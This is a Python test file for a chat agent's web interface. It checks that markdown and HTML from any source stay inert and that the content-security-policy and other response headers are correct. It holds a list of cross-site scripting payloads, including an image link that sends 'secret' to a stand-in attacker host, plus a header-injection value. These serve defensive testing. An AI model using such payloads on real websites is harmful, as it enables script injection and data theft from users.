"""Markdown and HTML from any side do nothing: in the page, in a shared page, in Slack and in documents; and what answers tell browsers."""

from __future__ import annotations

import json
import time

import pytest
from playwright.sync_api import BrowserContext, Request, expect
from starlette.datastructures import MutableHeaders

from agent.channels.web_headers import PLAIN, mark, page_policy
from tests.agent.channels.conftest import PATIENCE
from tests.agent.channels.test_web_page import say
from tests.served import Served

pytestmark = pytest.mark.timeout(300)
EVIL = "https://evil.example"
PAYLOADS = (
    "<script>window.hit=1;alert(1)</script>", "<img src=x onerror=\"window.hit=2;alert(2)\">", f"<img src={EVIL}/pixel.png>", f"![x]({EVIL}/pixel.png?q=secret)",
    "[press](javascript:window.hit=3)", "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", f"<iframe src={EVIL}></iframe>",
    "<svg/onload=\"window.hit=4\">", f"<link rel=stylesheet href={EVIL}/a.css>", f"<form action={EVIL}><button>press</button></form>",
    f"<meta http-equiv=refresh content=\"0;url={EVIL}\">", "<a href=\"vbscript:x\" onclick=\"window.hit=5\">press</a>", f"<{EVIL}/a>", "`</script><script>window.hit=6</script>`",
    f"<video src={EVIL}/a.mp4 autoplay onplay=window.hit=7></video>", "${window.hit=8} {{window.hit=9}} <%= window.hit=10 %>", f"<base href={EVIL}/>",
    "<math><mi//xlink:href=\"javascript:window.hit=11\">press</mi></math>", f"<object data={EVIL}/a.swf></object>", "<details open ontoggle=window.hit=12>",
)  # fmt: skip


def test_no_payload_runs_shows_a_dialog_or_asks_another_host(served: Served, context: BrowserContext) -> None:
    page, asked, stopped, dialogs = context.new_page(), list[str](), list[str](), list[str]()

    def noted(request: Request) -> None:
        if not request.url.startswith((served.url.split("/chat")[0], "data:", "blob:")):
            asked.append(request.url)

    page.on("request", noted)
    page.on("requestfailed", lambda request: stopped.append(request.url) if request.failure == "csp" else None)
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    answer = page.goto(served.url)
    assert answer is not None and "'unsafe-inline'" not in answer.headers["content-security-policy"].partition("script-src")[2].partition(";")[0]
    say(page, "a lighthouse, with a sign that says \"" + PAYLOADS[1].replace('"', "'") + "\" " + PAYLOADS[3])
    expect(page.locator('.sw-turn[data-status="done"], .sw-turn[data-status="failed"]')).to_have_count(1)
    ran = page.evaluate(
        """payloads => {
          const parts = []
          for (const payload of payloads) { const div = document.createElement('div'); div.innerHTML = payload; document.body.append(div); parts.push(div) }
          const script = document.createElement('script'); script.textContent = 'window.hit = 99'; document.body.append(script)
          return new Promise(done => setTimeout(() => { parts.forEach(part => part.querySelectorAll('a[href^="javascript"]').forEach(a => a.click())); done(window.hit ?? null) }, 150))
        }""",
        [p for p in PAYLOADS if "meta http-equiv" not in p and "evil.example/a>" not in p],
    )
    assert ran is None and page.evaluate("window.hit ?? null") is None
    deadline = time.monotonic() + PATIENCE / 1000
    while not set(asked) <= set(stopped) and time.monotonic() < deadline:  # that one was stopped is told after it was asked
        page.wait_for_timeout(50)
    assert dialogs == [] and [url for url in asked if url not in stopped] == []
    page.close()


def test_the_policy_names_the_scripts_of_the_page_alone() -> None:
    policy = page_policy(b"<html><script>a()</script><script src='/x.js'></script><script type=module>b()</script></html>", host="127.0.0.1:8000")
    scripts = policy.partition("script-src ")[2].partition(";")[0]
    assert scripts.count("sha256-") == 2 and "unsafe-inline" not in scripts and "script-src-attr 'none'" in policy
    assert "connect-src 'self' ws://127.0.0.1:8000 wss://127.0.0.1:8000;" in policy and "frame-ancestors 'none'" in policy
    assert "evil" not in page_policy(b"", host="x; script-src evil")


@pytest.mark.parametrize(
    ("path", "kind", "sandboxed", "saved", "shared"),
    [
        ("/assets/1", "image/png", False, False, "same-origin"), ("/assets/1", "video/mp4", False, False, "same-origin"),
        ("/assets/1", "image/svg+xml", True, False, "same-origin"), ("/assets/1", "text/plain; charset=utf-8", True, True, "same-origin"),
        ("/files/t.png", "image/png", False, False, "cross-origin"), ("/files/t.html", "text/html", True, True, "cross-origin"),
        ("/share/t/assets/1", "application/octet-stream", True, True, "same-origin"), ("/api/talks", "application/json", False, False, "same-origin"),
    ],
)  # fmt: skip
def test_answers_say_what_they_are(path: str, kind: str, sandboxed: bool, saved: bool, shared: str) -> None:
    headers = MutableHeaders({"content-type": kind})
    mark(headers, path)
    assert {name: headers[name] for name in PLAIN} == PLAIN and json.dumps(dict(headers))
    assert (headers.get("content-security-policy", "").startswith("sandbox"), headers.get("content-disposition") == "attachment") == (sandboxed, saved)
    assert headers["cross-origin-resource-policy"] == shared
